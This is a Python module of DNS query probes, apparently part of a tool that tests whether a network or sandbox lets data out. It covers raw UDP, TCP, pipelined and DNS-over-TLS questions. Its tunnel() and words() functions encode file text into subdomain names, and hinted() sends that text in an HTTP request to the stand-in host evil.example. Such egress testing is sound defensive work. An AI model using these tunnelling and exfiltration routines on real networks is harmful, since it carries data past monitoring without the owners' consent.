"""Questions: what carries data out, and answers that lead elsewhere."""

import socket
import struct

from streams import _open, _place

TYPES = {"A": 1, "TXT": 16, "AAAA": 28, "SRV": 33, "NULL": 10, "HTTPS": 65, "ANY": 255, "MX": 15}
CONTEXT = "/etc/ssl/certs/ca-certificates.crt"


def _question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.rstrip(".").split("."))
    return struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", TYPES[kind], 1)


def system(name):
    """The C library's resolver, as resolv.conf says."""
    yield str(socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM))


def udp(server, kind, name):
    """A question by a datagram to any server."""
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(1)
        peer.sendto(_question(name, kind), _place(server, 53)[1])
        yield peer.recv(65535)


def many(server, kind, names):
    """Several questions without waiting for an answer, from one connected socket."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(0.5)
        peer.connect((server, 53))
        for name in names.split(","):
            peer.send(_question(name, kind))
        for _ in names.split(","):
            yield peer.recv(65535)


def tcp(server, kind, name):
    """A question by a stream to any server."""
    with _open(server) as peer:
        peer.connect(_place(server, 53)[1])
        yield from _ask(peer, kind, name)


def pipelined(server, kind, allowed, name):
    """Two questions in one segment of a stream: one about whom may be known, and the other."""
    with _open(server) as peer:
        peer.connect(_place(server, 53)[1])
        questions = [_question(each, kind) for each in (allowed, name)]
        peer.sendall(b"".join(struct.pack("!H", len(each)) + each for each in questions))
        peer.settimeout(1)
        for _ in questions:
            yield peer.recv(65535)


def _ask(peer, kind, name):
    question = _question(name, kind)
    peer.sendall(struct.pack("!H", len(question)) + question)
    yield peer.recv(65535)


def two(server, kind, allowed, name):
    """One message with two questions."""
    first, second = _question(allowed, kind), _question(name, kind)
    text = first[:4] + struct.pack("!H", 2) + first[6:] + second[12:]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(1)
        peer.sendto(text, (server, 53))
        yield peer.recv(65535)


def over_tls(server, sni, kind, name):
    """DNS over TLS (RFC 7858)."""
    import ssl

    context = ssl.create_default_context(cafile=CONTEXT)
    context.check_hostname = False
    with _open(server) as plain:
        plain.connect(_place(server, 853)[1])
        with context.wrap_socket(plain, server_hostname=sni) as peer:
            yield from _ask(peer, kind, name)


def tunnel(zone, count, text):
    """Many long names beneath a zone, as a tunnel asks them: 150 bytes of a file in each."""
    for number in range(int(count)):
        data = (text + f"{number:04x}").encode().hex()
        noise = "".join(f"{(number * 2654435761 + i * 40503) & 0xFFFFFFFF:08x}" for i in range(12))
        try:
            socket.getaddrinfo(f"{data}.{noise[:48]}.{noise[48:]}.{text}{number:04x}.{zone}", 443)
        except OSError:
            pass
    yield "asked"


WORDS = "amber birch cedar delta ember fjord grove hazel inlet jetty knoll larch maple north ocean pearl quartz ridge".split()


def words(zone, count, text):
    """The same with names that look like names: a few plain words carry the number of a line."""
    size = len(WORDS)
    for number in range(int(count)):
        name = "-".join(WORDS[number // size**place % size] for place in range(3))
        try:
            socket.getaddrinfo(f"{name}.{text}.{zone}", 443, socket.AF_INET)
        except OSError:
            pass
    yield "asked"


def follow(name, port, text):
    """Asks for the addresses of a name by the C library, connects to each, and says something."""
    from streams import connect

    seen = []
    for entry in socket.getaddrinfo(name, int(port), type=socket.SOCK_STREAM):
        address = entry[4][0]
        if address not in seen:
            seen.append(address)
            yield address
            try:
                yield from connect(address, port, text)
            except OSError as error:
                yield f"{error}"
    if not seen:
        yield "no addresses"


def hinted(server, name, text):
    """Connects to the address that an HTTPS record (RFC 9460) hints at, whatever A says."""
    from streams import connect

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(1)
        peer.sendto(_question(name, "HTTPS"), (server, 53))
        answer = peer.recv(65535)
    yield answer
    # The parameter `ipv4hint` has the number 4, and here the length 4.
    at = answer.find(struct.pack("!2H", 4, 4))
    if at < 0:
        yield "no hint"
        return
    address = socket.inet_ntoa(answer[at + 4 : at + 8])
    yield f"hint: {address}"
    yield from connect(address, 80, f"GET /{text} HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n")
